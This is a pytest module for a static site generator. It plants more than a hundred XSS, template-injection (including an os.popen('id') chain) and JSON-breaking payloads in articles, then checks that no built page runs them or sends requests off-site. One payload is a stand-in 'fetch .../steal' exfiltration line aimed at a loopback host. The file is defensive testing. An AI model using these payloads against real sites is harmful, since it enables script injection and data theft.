"""No script runs: injection payloads in titles, text, front matter and file names are built
into one site; every HTML file is checked for markup that could run, and the pages are
opened in Debian chromium, where a probe each payload would set stays unset, no dialog
opens and no request leaves the site's own origin.

The payloads point only at loopback addresses (127.0.0.2), and the browser's requests are
answered by a route handler, so nothing is sent anywhere even if a payload fired.
"""

from __future__ import annotations

import html
import json
import re
import tomllib
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from tests.conftest import ROOT

pytestmark = pytest.mark.robustness

PROBE = "window.__pwned=1"
EVIL = "http://127.0.0.2:9"  # loopback: a payload that fired would still reach nothing outside

SCRIPT_TAGS = [
    f"<script>{PROBE}</script>",
    f"<SCRIPT>{PROBE}</SCRIPT>",
    f"<script type=module>{PROBE}</script>",
    f'<script src="{EVIL}/x.js"></script>',
    f"<script/src=data:,{PROBE}></script>",
    f'"><script>{PROBE}</script>',
    f"'><script>{PROBE}</script>",
    f"</title><script>{PROBE}</script>",
    f"</textarea><script>{PROBE}</script>",
    f"<!--<script>-->{PROBE}<!--</script>-->",
    f"<scr<script>ipt>{PROBE}</scr</script>ipt>",
    f"</script><script>{PROBE}</script>",
    f"<\\/script><script>{PROBE}<\\/script>",
    f"<svg><script>{PROBE}</script></svg>",
    f"<math><mtext><script>{PROBE}</script></mtext></math>",
    f"<template><script>{PROBE}</script></template>",
    f'<noscript><p title="</noscript><script>{PROBE}</script>">',
    f"<![CDATA[<script>{PROBE}</script>]]>",
    "<script>alert(1)</script>",
    f"<script>fetch('{EVIL}/steal?'+document.domain)</script>",
]
EVENT_HANDLERS = [
    f"<img src=x onerror={PROBE}>",
    f'<img src="x" onerror="{PROBE}">',
    "<img src=x onerror=alert(1)>",
    f"<svg onload={PROBE}>",
    f"<svg/onload={PROBE}>",
    f"<body onload={PROBE}>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    f"<details open ontoggle={PROBE}>",
    f"<input autofocus onfocus={PROBE}>",
    f"<video><source onerror={PROBE}></video>",
    f"<audio src=x onerror={PROBE}>",
    f"<marquee onstart={PROBE}>x</marquee>",
    f'" onmouseover="{PROBE}',
    f"' onfocus='{PROBE}' autofocus='",
    f'" autofocus onfocus="{PROBE}" x="',
    f"<xss id=x tabindex=1 autofocus onfocus={PROBE}></xss>",
    f"<svg><animate onbegin={PROBE} attributeName=x dur=1s>",
    f"<div onpointerover={PROBE}>hover</div>",
    f'<a href="#" onclick="{PROBE}">click</a>',
    f"<select autofocus onfocus={PROBE}>",
    f"<textarea autofocus onfocus={PROBE}>",
    f"<keygen autofocus onfocus={PROBE}>",
    f"<style onload={PROBE}></style>",
    f"<object data=x onerror={PROBE}>",
    f"<image src=x onerror={PROBE}>",
]
URLS = [
    f"javascript:{PROBE}",
    f"JaVaScRiPt:{PROBE}",
    f" javascript:{PROBE}",
    f"java\tscript:{PROBE}",
    f"javascript&colon;{PROBE}",
    f"data:text/html,<script>{PROBE}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    "vbscript:msgbox(1)",
    f'https://example.org/" onmouseover="{PROBE}',
    f"https://example.org/#<script>{PROBE}</script>",
    f'{EVIL}/"><script>{PROBE}</script>',
    "//127.0.0.2:9/protocol-relative",
    f'<a href="javascript:{PROBE}">link</a>',
    f'<a href="data:text/html,<script>{PROBE}</script>">link</a>',
    f'<object data="javascript:{PROBE}"></object>',
    f'<embed src="javascript:{PROBE}">',
    f'<form action="javascript:{PROBE}"><button>go</button></form>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{PROBE}">',
    f'<base href="{EVIL}/">',
    f'<svg><a xlink:href="javascript:{PROBE}"><text y=20>x</text></a></svg>',
    f'<iframe src="javascript:{PROBE}"></iframe>',
    f"<isindex type=image src=1 onerror={PROBE}>",
]
STYLES = [
    f"<style>@import '{EVIL}/x.css';</style>",
    f"<style>body{{background:url({EVIL}/x)}}</style>",
    "<style>*{display:none!important}</style>",
    f'<div style="background:url({EVIL}/x)">styled</div>',
    f'<link rel=stylesheet href="{EVIL}/x.css">',
    f'<img src="{EVIL}/x.png">',
    f'<img srcset="{EVIL}/x.png 1x">',
    f"</style><script>{PROBE}</script>",
    "<style>a{color:expression(alert(1))}</style>",
]
TEMPLATES = [
    "{{ 7*7 }}",
    "{{7*'7'}}",
    "{% for x in range(3) %}X{% endfor %}",
    "{{ config }}",
    "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{% include 'base.html' %}",
    "{% raw %}",
    "{% endraw %}{% endblock %}",
    "{# comment",
    "{{ root }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{ entity_html }}",
]
JSON_BREAKERS = [
    f"</script><script>{PROBE}</script>",
    f'"]}}</script><script>{PROBE}</script>',
    f'"}}; {PROBE}; //',
    "\u2028\u2029 line separators",
    "<!-- unclosed comment",
    f"\\u003cscript\\u003e{PROBE}\\u003c/script\\u003e",
]
ENCODED = [
    f"&lt;script&gt;{PROBE}&lt;/script&gt;",
    f"&#60;script&#62;{PROBE}&#60;/script&#62;",
    f"%3Cscript%3E{PROBE}%3C/script%3E",
    f"\uff1cscript\uff1e{PROBE}\uff1c/script\uff1e",
    f"\u202e<script>{PROBE}</script>",
    f"<scr\u200bipt>{PROBE}</script>",
    f"<script\x0c>{PROBE}</script>",
    f"<img src=x one\u0001rror={PROBE}>",
]
MARKDOWN = [
    f"[click](javascript:{PROBE})",
    f"[click](data:text/html,<script>{PROBE}</script>)",
    f"![img]({EVIL}/x.png)",
    f"<{EVIL}/autolink>",
    f"[ref][x]\n\n[x]: javascript:{PROBE}",
    f"```<script>{PROBE}</script>\ncode\n```",
    f"<div><script>{PROBE}</script></div>",
]
PAYLOADS = SCRIPT_TAGS + EVENT_HANDLERS + URLS + STYLES + TEMPLATES + JSON_BREAKERS + ENCODED + MARKDOWN
assert len(PAYLOADS) >= 100, len(PAYLOADS)


def _file_name(index: int, payload: str, suffix: str) -> str:
    """A hostile file name: the payload itself, as far as a file system allows."""
    name = payload.replace("/", "\u2215").replace("\0", "").replace("\n", " ")
    name = name.encode("utf-8")[:180].decode("utf-8", "ignore")
    return f"{index:03d} {name}{suffix}"


def write_corpus(content: Path) -> dict[str, str]:
    """One article per payload, the payload in its title, body, quote, front matter and (for
    every third) its file name; returns payload by file name."""
    content.mkdir(parents=True, exist_ok=True)
    files = {}
    for i, payload in enumerate(PAYLOADS):
        markdown = i % 2 == 0
        suffix = ".md" if markdown else ".txt"
        name = _file_name(i, payload, suffix) if i % 3 == 0 else f"{i:03d}{suffix}"
        flat = payload.replace("\n", " ")
        body = [
            f"Foreign ministers met in Geneva on Monday to talk about story {i}. {flat} Officials said the talks would go on.",
            f"\u201c{flat} We are ready to talk,\u201d said Anna Brandt, the foreign minister of Velmoria.",
            f"The minister {flat} met President Karl Weber of Karskia in the evening.",
        ]
        if markdown:
            url = payload if i % 4 == 0 else f"https://example.org/story?q={flat}"
            front = {"title": f"Story {i} {flat}", "outlet": flat, "source_url": url, "date": "2023-05-06"}
            text = "---\n" + "".join(f"{k}: {json.dumps(v)}\n" for k, v in front.items()) + "---\n\n"
            text += "\n\n".join(body) + "\n\n" + payload + "\n\n" + f"[{flat}](https://example.org/{i})\n"
        else:
            text = f" date 2023-05-06 https://example.org/{i}?x={flat.split()[0] if flat.split() else ''}\n"
            text += f"Story {i} {flat}\n\n" + "\n\n".join(body) + "\n"
        (content / name).write_text(text, encoding="utf-8")
        files[name] = payload
        # A saved web page with the payload as markup, in its metadata and as text (but for an
        # unclosed <textarea>, which makes the rest of a page its text, in a browser as here).
        if i % 3 == 1 and not payload.startswith("<textarea"):
            name = f"{i:03d} page.html"
            (content / name).write_text(_saved_page(i, payload, body), encoding="utf-8")
            files[name] = payload
    return files


def _saved_page(i: int, payload: str, body: list[str]) -> str:
    e = html.escape
    paragraphs = "\n".join(f"<p>{line}</p>" for line in body)  # the payload raw, as markup
    return f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>Page {i} {e(payload)}</title>
<meta property="og:site_name" content="{e(payload)}"><meta name="author" content="{e(payload)}">
<link rel="canonical" href="{e(payload)}">{payload}</head><body>{payload}<article><h1>Page {i} {e(payload)}</h1>
{paragraphs}
<p>{e(payload)} The talks were described by both delegations as long, difficult and useful, and a further round
is planned in the spring, when the ministers expect to meet again in the same city.</p>
<p>Neither side published the draft text on Monday. Diplomats from both countries said that the questions of
trade and of the border crossings would be settled first, and that the rest could wait until the summer.</p>
</article></body></html>
"""


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    from generator.config import BuildConfig
    from generator.pipeline import build

    work = tmp_path_factory.mktemp("injection")
    files = write_corpus(work / "content")
    config = BuildConfig(content=work / "content", out=work / "site", cache_dir=work / "cache", jobs=1)
    report = build(config)
    return config.out, report, files


# What the templates write (and Pygments, for code): any other element in a built page came
# from an article. Read from the templates, so new pages (pictures' SVG) need no edit here.
NEVER = {
    "script",
    "style",
    "iframe",
    "frame",
    "object",
    "embed",
    "base",
    "form",
    "img",
    "image",
    "video",
    "audio",
    "source",
    "math",
    "template",
    "noscript",
    "foreignobject",
    "animate",
    "set",
    "use",
    "xss",
    "marquee",
}
ALLOWED_TAGS = (
    {
        m.lower()
        for t in (ROOT / "templates").rglob("*.html")
        for m in re.findall(r"<([a-zA-Z][a-zA-Z0-9-]*)", t.read_text(encoding="utf-8"))
    }
    | {"div", "pre", "span", "code"}
) - NEVER
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "srcset", "xlink:href", "poster", "background"}


class _Audit(HTMLParser):
    def __init__(self, page: str = ""):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.page = page

    def handle_starttag(self, tag, attrs):
        self._in_script = tag == "script"
        # search.html, a fixed page, runs Pagefind's UI: scripts of the site's own files.
        searching = (
            self.page == "search.html"
            and tag in ("script", "noscript")
            and not urlsplit(dict(attrs).get("src") or "").scheme
        )
        if tag == "script" and not searching:
            # The one script a page may have: the site's own file, loaded by src, with no body.
            # 404.html is served at any depth: its links start from the site's root.
            own = ("assets/", "../assets/", "/assets/") if self.page == "404.html" else ("assets/", "../assets/")
            if set(dict(attrs)) - {"src", "defer"} or not (dict(attrs).get("src") or "").startswith(own):
                self.problems.append(f"script {attrs}")
        elif tag not in ALLOWED_TAGS and not searching:
            self.problems.append(f"element <{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                self.problems.append(f"attribute {name}={value!r} on <{tag}>")
            if name in URL_ATTRIBUTES:
                scheme = urlsplit(re.sub(r"[\x00-\x20]", "", value)).scheme.lower()
                if scheme not in ("", "http", "https") or value.strip().startswith("//"):
                    self.problems.append(f"{name}={value!r} on <{tag}>")
        if tag == "meta" and dict(attrs).get("http-equiv", "").lower() not in ("", "content-security-policy"):
            self.problems.append(f"meta {attrs}")
        href = dict(attrs).get("href") or ""
        # Style sheets, icon, feed and search index: files of the site (404.html, served at
        # any depth, links from the host's root).
        if tag == "link" and (
            not href
            or urlsplit(href).scheme
            or href.startswith(("//", "\\"))
            or href.startswith("/")
            and self.page != "404.html"
        ):
            self.problems.append(f"link {attrs}")

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        if getattr(self, "_in_script", False) and data.strip():
            self.problems.append(f"inline script {data[:80]!r}")

    def handle_endtag(self, tag):
        self._in_script = False


def _html_files(site: Path) -> list[Path]:
    return sorted(site.rglob("*.html"))


@pytest.mark.slow
def test_every_payload_built_and_none_appears_unescaped(hostile_site):
    site, report, files = hostile_site
    # Every article built: a payload is text, never a reason to refuse a file.
    assert report.errors == [], report.errors
    assert report.articles == len(files), [w for w in report.warnings if "W005" in w]
    pages = _html_files(site)
    assert len(pages) > len(PAYLOADS)
    problems = []
    for page in pages:
        text = page.read_text(encoding="utf-8")
        audit = _Audit(page.relative_to(site).as_posix())
        audit.feed(text)
        problems += [f"{page.relative_to(site)}: {p}" for p in audit.problems]
        for payload in PAYLOADS:
            if "<" in payload and payload in text:
                problems.append(f"{page.relative_to(site)}: raw payload {payload!r}")
    assert problems == [], "\n".join(problems[:40])


@pytest.mark.slow
def test_template_syntax_in_articles_is_shown_as_text_never_evaluated(hostile_site):
    site, _, files = hostile_site
    shown = "".join(html.unescape(p.read_text(encoding="utf-8")) for p in (site / "articles").glob("*.html"))
    for payload in TEMPLATES:
        assert payload in shown, payload
    assert "Story" in shown and "XXX" not in shown


@pytest.mark.slow
def test_only_web_links_become_source_links(hostile_site):
    site, _, _ = hostile_site
    for path in (site / "data" / "articles").glob("*.json"):
        url = json.loads(path.read_text(encoding="utf-8"))["source_url"]
        assert url is None or url.startswith(("http://", "https://")), (path.name, url)


@pytest.mark.slow
def test_the_json_export_round_trips_every_payload_and_cannot_close_a_script(hostile_site):
    site, _, files = hostile_site
    titles = set()
    for path in (site / "data" / "articles").glob("*.json"):
        raw = path.read_text(encoding="utf-8")
        data = json.loads(raw)
        titles.add(data["title"])
        assert data["source_file"] in files
    for i, payload in enumerate(PAYLOADS):
        assert f"Story {i} {payload.replace(chr(10), ' ')}".strip() in {t.strip() for t in titles} or i % 2, payload
    json.loads((site / "data" / "people.json").read_text(encoding="utf-8"))


def test_netlify_headers_forbid_inline_script_and_set_nosniff_and_referrer_policy():
    config = tomllib.loads((ROOT / "netlify.toml").read_text(encoding="utf-8"))
    headers = {}
    for rule in config["headers"]:
        if rule["for"] == "/*":
            headers.update(rule["values"])
    csp = {d.split()[0]: d.split()[1:] for d in (p.strip() for p in headers["Content-Security-Policy"].split(";")) if d}
    assert csp["default-src"] == ["'self'"]
    scripts = csp.get("script-src", csp["default-src"])
    # No 'unsafe-inline', 'unsafe-eval', data: or hosts: WebAssembly only, for Pagefind's search.
    assert scripts == ["'self'", "'wasm-unsafe-eval'"], scripts
    assert csp.get("style-src", csp["default-src"]) == ["'self'"]
    assert csp["object-src"] == ["'none'"] and csp["base-uri"] == ["'none'"]
    assert csp["frame-ancestors"] == ["'none'"]
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] in ("no-referrer", "same-origin", "strict-origin-when-cross-origin")
    # The pages carry the same policy themselves, for hosts that do not read netlify.toml.
    base = (ROOT / "templates" / "base.html").read_text(encoding="utf-8")
    meta = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', base)
    assert meta and "script-src 'self'{% block wasm %}{% endblock %};" in meta[1] and "unsafe" not in meta[1]
    # Only the search page lets WebAssembly run, and nothing more.
    search = (ROOT / "templates" / "search.html").read_text(encoding="utf-8")
    assert "{% block wasm %} 'wasm-unsafe-eval'{% endblock %}" in search


# -- in the browser ---------------------------------------------------------------------------

ORIGIN = "http://reader.test"


def netlify_headers() -> dict[str, str]:
    config = tomllib.loads((ROOT / "netlify.toml").read_text(encoding="utf-8"))
    return {k: v for rule in config["headers"] if rule["for"] == "/*" for k, v in rule["values"].items()}


class SiteInBrowser:
    """Pages of a built site in chromium at a made-up origin whose requests a route handler
    answers from the site folder; every other request is recorded and refused unsent."""

    def __init__(self, browser, site: Path, deployed: bool):
        self.site, self.deployed = site, deployed
        self.context = browser.new_context()
        self.foreign: list[str] = []
        self.dialogs: list[str] = []
        self.errors: list[str] = []
        self.page = None
        self.context.route("**/*", self._route)

    def _route(self, route):
        url = route.request.url
        if not url.startswith(ORIGIN + "/"):
            self.foreign.append(url)
            return route.abort()
        from urllib.parse import unquote

        path = (self.site / unquote(urlsplit(url).path.lstrip("/"))).resolve()
        if self.site not in path.parents or not path.is_file():
            return route.fulfill(status=404, body="not found")
        body = path.read_bytes()
        kinds = {
            ".html": "text/html; charset=utf-8",
            ".css": "text/css",
            ".json": "application/json",
            ".js": "text/javascript",
            ".svg": "image/svg+xml",
        }
        headers = {"Content-Type": kinds.get(path.suffix, "application/octet-stream")}
        if self.deployed:
            headers.update(netlify_headers())
        else:
            # No policy at all: what must hold is that the markup runs nothing by itself.
            body = re.sub(rb'<meta http-equiv="Content-Security-Policy"[^>]*>', b"", body)
        route.fulfill(status=200, body=body, headers=headers)

    def visit(self, relative: str) -> dict:
        if self.page is None:
            self.page = self.context.new_page()
            self.page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
            self.page.on("pageerror", lambda e: self.errors.append(str(e)))
            self.page.on("console", lambda m: self.errors.append(m.text) if m.type == "error" else None)
        self.errors.clear()
        self.page.goto(f"{ORIGIN}/{relative}", wait_until="load")
        self.page.wait_for_timeout(30)  # autofocus, animations and toggles fire just after load
        state = self.page.evaluate("() => ({pwned: window.__pwned, title: document.title})")
        state["errors"] = list(self.errors)
        return state

    def close(self):
        self.context.close()


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.parametrize("deployed", [False, True], ids=["no-policy", "as-deployed"])
def test_no_payload_runs_in_chromium_and_no_request_leaves_the_site(browser, hostile_site, deployed):
    site, _, _ = hostile_site
    pages = [p.relative_to(site).as_posix() for p in _html_files(site)]
    assert len(pages) > len(PAYLOADS)  # every article's page, and the site's own
    viewer = SiteInBrowser(browser, site.resolve(), deployed)
    try:
        pwned, errors = [], []
        for relative in pages:
            state = viewer.visit(relative)
            if state["pwned"] is not None:
                pwned.append(relative)
            errors += [f"{relative}: {e}" for e in state["errors"]]
        assert pwned == [], pwned
        assert viewer.dialogs == [], viewer.dialogs
        assert viewer.foreign == [], viewer.foreign[:20]
        assert errors == [], errors[:20]  # no script error, no policy violation
        print(f"\n{len(pages)} pages opened ({'as deployed' if deployed else 'no policy'}): none ran a payload")
    finally:
        viewer.close()


@pytest.mark.browser
def test_the_probe_and_the_request_log_catch_a_page_that_does_run_a_payload(browser, tmp_path):
    """The checks above are not vacuous: an unescaped payload is seen by both."""
    site = tmp_path / "site"
    site.mkdir()
    (site / "bad.html").write_text(f"<p>x<script>{PROBE}</script><img src='{EVIL}/x.png'></p>", encoding="utf-8")
    viewer = SiteInBrowser(browser, site.resolve(), deployed=False)
    try:
        assert viewer.visit("bad.html")["pwned"] == 1
        assert viewer.foreign == [f"{EVIL}/x.png"]
    finally:
        viewer.close()


def test_the_markup_audit_catches_what_a_payload_would_leave():
    for bad in (
        f"<img src=x onerror={PROBE}>",
        f'<a href=" javascript:{PROBE}">x</a>',
        "<script>x</script>",
        f"<p style='background:url({EVIL})'>",
        '<meta http-equiv="refresh" content="0">',
        '<a href="//127.0.0.2/">x</a>',
        "<svg><a xlink:href='data:text/html,x'>x</a></svg>",
        f'<script src="{EVIL}/x.js"></script>',
        '<script src="../assets/reader.js">x()</script>',
    ):
        audit = _Audit()
        audit.feed(bad)
        assert audit.problems, bad
    audit = _Audit()
    audit.feed(
        '<a href="../people/x.html">x</a><a href="https://example.org/a?b=&quot;">y</a>'
        '<script src="../assets/reader.js" defer></script>'
    )
    assert audit.problems == []
